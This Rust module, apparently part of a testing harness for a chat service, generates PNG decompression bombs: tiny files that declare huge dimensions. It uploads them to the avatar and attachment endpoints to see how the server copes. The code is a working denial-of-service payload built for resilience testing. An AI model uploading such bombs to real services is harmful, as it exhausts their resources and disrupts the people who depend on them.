//! Pictures of few bytes and many pixels.

use std::{io::Write, sync::LazyLock};

use anyhow::Result;
use flate2::{Compression, Crc, write::ZlibEncoder};
use reqwest::Method;

use super::attackers::Attacker;

/// The edge of the largest picture that an avatar is made of.
const EDGE: u32 = 8_192;
/// The edge of a picture that no program should decode.
const ENORMOUS: u32 = 1_000_000;

/// A picture that may be decoded, though it takes long, and one of which only the head is there.
static BOMBS: LazyLock<[Vec<u8>; 2]> = LazyLock::new(|| [png(EDGE, EDGE), png(ENORMOUS, 0)]);

impl Attacker {
    /// Uploads a picture, as an avatar or as an attachment.
    pub(super) async fn upload_bomb(&self, strike: usize) -> Result<()> {
        let bomb = BOMBS[strike % 2].clone();
        let attachment = format!("/chats/{}/attachments?name=bomb.png", self.chat);
        let (method, path) = match strike / 2 % 2 {
            0 => (Method::PUT, "/users/me/avatar"),
            _ => (Method::POST, attachment.as_str()),
        };
        let request = self.me.request(method, path).body(bomb);
        let answer = request.header("content-type", "image/png").send().await;
        self.strikes
            .take(answer.map(|it| it.status()).map_err(Into::into));
        Ok(())
    }
}

/// Returns a black PNG that says that it has `edge` pixels on each edge, and has so many rows.
fn png(edge: u32, rows: u32) -> Vec<u8> {
    let head = [
        &edge.to_be_bytes()[..],
        &edge.to_be_bytes(),
        &[8, 0, 0, 0, 0],
    ]
    .concat();
    let row = vec![0; edge as usize + 1];
    let mut pixels = ZlibEncoder::new(Vec::new(), Compression::best());
    for _ in 0..rows {
        pixels.write_all(&row).expect("memory takes all");
    }
    let pixels = pixels.finish().expect("memory takes all");
    let chunks = [(b"IHDR", head), (b"IDAT", pixels), (b"IEND", Vec::new())];
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    for (name, content) in chunks {
        let content = [&name[..], &content].concat();
        let mut check = Crc::new();
        check.update(&content);
        let size = u32::try_from(content.len() - name.len()).expect("a small file");
        file.extend(
            [
                &size.to_be_bytes(),
                &content[..],
                &check.sum().to_be_bytes(),
            ]
            .concat(),
        );
    }
    file
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_and_says_how_large_it_is() {
        for (bomb, edge) in BOMBS.iter().zip([EDGE, ENORMOUS]) {
            assert!(bomb.len() < 256 << 10, "{} bytes", bomb.len());
            assert_eq!(bomb[16..20], edge.to_be_bytes());
        }
    }
}
